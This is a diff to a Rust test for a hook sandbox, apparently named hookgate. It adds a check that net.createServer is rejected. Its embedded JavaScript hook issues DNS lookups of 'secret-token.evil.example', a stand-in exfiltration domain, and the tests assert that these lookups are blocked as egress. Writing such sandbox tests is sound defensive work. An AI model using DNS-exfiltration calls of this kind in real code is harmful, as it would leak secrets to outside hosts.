@@ -676,6 +676,7 @@ module.exports = async function (client, scope, audience, context, cb) {{
   out.lookup = await new Promise((r) => dns.lookup('secret-token.evil.example', (e, a) => r(e ? e.code : a)));
   out.resolve4 = await dns.promises.resolve4('secret-token.evil.example').then((a) => a, (e) => e.code);
   out.allowed = await new Promise((r) => dns.lookup('localhost', (e, a) => r(e ? e.code : a)));
+  try {{ net.createServer(); out.server = 'created'; }} catch (e) {{ out.server = e.code + ': ' + e.message; }}
   cb(null, out);
 }};
 "#,
@@ -702,6 +703,10 @@ module.exports = async function (client, scope, audience, context, cb) {{
         "a DNS query carries its name out"
     );
     assert_eq!(out["resolve4"], "ERR_HOOKGATE_EGRESS");
+    assert_eq!(
+        out["server"],
+        "ERR_HOOKGATE_UNSUPPORTED: net.createServer is not available to hooks: hookgate hooks open outbound connections only"
+    );
     assert!(
         out["allowed"].as_str().unwrap().contains('1'),
         "an allowed name resolves: {out}"
